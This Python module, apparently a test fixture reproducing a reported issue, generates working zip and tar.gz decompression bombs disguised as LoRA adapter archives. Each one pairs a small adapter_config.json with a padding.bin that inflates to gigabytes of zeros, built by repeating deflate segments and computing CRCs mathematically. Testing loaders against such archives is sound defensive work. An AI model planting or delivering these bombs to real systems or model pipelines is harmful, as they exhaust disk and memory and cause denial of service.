"""Real decompression bombs, built in milliseconds without compressing gigabytes.

Deflate output for a run of zeros that ends in a full flush is self-contained (a full flush
resets the window) and byte-aligned, so one compressed 1 MiB segment repeated N times is a
valid deflate stream of N x 1 MiB zeros. CRC-32 of the zeros comes from GF(2) matrix powers
(zlib's crc32_combine trick) instead of hashing gigabytes. Every archive here unpacks, with
Python's own zipfile/tarfile, to exactly what its headers say.

    zip_bomb(path, n_bytes)     -> a .zip: adapter_config.json + padding.bin of zeros
    targz_bomb(path, n_bytes)   -> the same as a .tar.gz (a .nemo-style tar when gzip=False)
"""
from __future__ import annotations

import io
import json
import struct
import tarfile
import zlib
from pathlib import Path

SEGMENT = 1 << 20
BOMB_BYTES = 3328 * SEGMENT  # 3.49 GB of zeros, the size the issue reports
_CONFIG = json.dumps({"peft_type": "LORA", "r": 4, "lora_alpha": 8, "target_modules": ["q_proj"]}).encode()


def _gf2_times(mat: list[int], vec: int) -> int:
    out, i = 0, 0
    while vec:
        if vec & 1:
            out ^= mat[i]
        vec >>= 1
        i += 1
    return out


def _gf2_square(mat: list[int]) -> list[int]:
    return [_gf2_times(mat, mat[n]) for n in range(32)]


def crc32_zeros(n: int, crc: int = 0) -> int:
    """zlib.crc32(b"\\0" * n, crc) in O(log n)."""
    op = [0xEDB88320] + [1 << k for k in range(31)]  # one zero bit
    for _ in range(3):
        op = _gf2_square(op)  # one zero byte
    state = crc ^ 0xFFFFFFFF
    while n:
        if n & 1:
            state = _gf2_times(op, state)
        op = _gf2_square(op)
        n >>= 1
    return state ^ 0xFFFFFFFF


def _deflate_zeros(prefix: bytes, n_zeros: int, suffix_zeros: int = 0) -> bytes:
    """Raw deflate of prefix + n_zeros (a multiple of SEGMENT) + suffix_zeros zero bytes."""
    assert n_zeros % SEGMENT == 0
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = c.compress(prefix) + c.flush(zlib.Z_FULL_FLUSH)
    zeros = bytes(SEGMENT)
    first = c.compress(zeros) + c.flush(zlib.Z_FULL_FLUSH)
    seg = c.compress(zeros) + c.flush(zlib.Z_FULL_FLUSH)
    assert c.compress(zeros) + c.flush(zlib.Z_FULL_FLUSH) == seg  # steady state: repeatable
    count = n_zeros // SEGMENT
    tail = c.compress(bytes(suffix_zeros)) + c.flush(zlib.Z_FINISH)
    return head + first + seg * (count - 1) + tail


def zip_bomb(path: Path, n_bytes: int = BOMB_BYTES) -> Path:
    """A zip whose padding.bin member inflates to n_bytes zeros (< 4 GiB: no zip64 needed)."""
    assert n_bytes < 1 << 32
    out = io.BytesIO()
    central = b""
    for name, data, crc, size in (("adapter_config.json", zlib.compress(_CONFIG)[2:-4], zlib.crc32(_CONFIG), len(_CONFIG)),
                                  ("padding.bin", _deflate_zeros(b"", n_bytes), crc32_zeros(n_bytes), n_bytes)):
        offset = out.tell()
        fn = name.encode()
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(data), size, len(fn), 0) + fn)
        out.write(data)
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, crc, len(data), size,
                               len(fn), 0, 0, 0, 0, 0o100644 << 16, offset) + fn
    cd_offset = out.tell()
    out.write(central)
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 2, 2, len(central), cd_offset, 0))
    path.write_bytes(out.getvalue())
    return path


def targz_bomb(path: Path, n_bytes: int = BOMB_BYTES, gzip: bool = True) -> Path:
    """A tar (gzipped unless gzip=False) holding adapter_config.json and n_bytes of zeros."""
    prefix = io.BytesIO()
    with tarfile.open(fileobj=prefix, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        info = tarfile.TarInfo("adapter_config.json")
        info.size = len(_CONFIG)
        tar.addfile(info, io.BytesIO(_CONFIG))
        pad = tarfile.TarInfo("padding.bin")
        pad.size = n_bytes
        prefix.write(pad.tobuf(format=tarfile.USTAR_FORMAT))
        tar.fileobj = io.BytesIO()  # what follows (the zeros and the end blocks) is written below
    head = prefix.getvalue()
    tail_zeros = (-n_bytes % 512) + 1024 + (-(len(head) + n_bytes + (-n_bytes % 512) + 1024) % 10240)
    if not gzip:
        with open(path, "wb") as f:
            f.write(head)
            f.truncate(len(head) + n_bytes + tail_zeros)  # a sparse file of zeros: plain tars carry bytes 1:1
        return path
    total = len(head) + n_bytes + tail_zeros
    crc = crc32_zeros(n_bytes + tail_zeros, zlib.crc32(head))
    body = _deflate_zeros(head, n_bytes, tail_zeros)
    path.write_bytes(b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff" + body + struct.pack("<II", crc, total & 0xFFFFFFFF))
    return path
